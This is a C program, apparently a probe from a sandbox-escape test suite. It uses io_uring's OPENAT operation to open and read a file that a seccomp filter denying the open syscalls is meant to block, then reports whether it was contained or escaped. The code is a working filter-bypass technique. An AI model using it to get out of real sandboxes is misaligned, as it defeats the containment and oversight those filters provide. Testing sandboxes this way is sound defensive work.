/* io_uring doing what the filter denies: the policy denies the whole open family, and the
 * program opens argv[1] through an IORING_OP_OPENAT submission instead, which seccomp never
 * sees (the kernel's io_uring workers do not run the submitter's filter per operation). */
#include "escape.h"
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    attempting("io_uring_setup");
    int fd = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (fd < 0)
        contained("io_uring_setup", errno);
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP)
        sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
    char *sq = mmap(0, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    if (sq == MAP_FAILED)
        setup("mmap sq");
    char *cq = sq;
    if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
        cq = mmap(0, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
        if (cq == MAP_FAILED)
            setup("mmap cq");
    }
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
    if (sqes == MAP_FAILED)
        setup("mmap sqes");
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned t = *tail, i = t & *mask;
    memset(&sqes[i], 0, sizeof sqes[i]);
    sqes[i].opcode = IORING_OP_OPENAT;
    sqes[i].fd = AT_FDCWD;
    sqes[i].addr = (unsigned long)argv[1];
    sqes[i].open_flags = O_RDONLY;
    array[i] = i;
    __atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
        setup("io_uring_enter");
    unsigned *chead = (unsigned *)(cq + p.cq_off.head);
    unsigned *cmask = (unsigned *)(cq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    int res = cqes[*chead & *cmask].res;
    if (res < 0)
        contained("IORING_OP_OPENAT", -res);
    char buf[64] = {0};
    if (read(res, buf, sizeof buf - 1) > 0 && strstr(buf, "SECRET"))
        escaped("io_uring opened and read the file");
    escaped("io_uring opened the file");
}
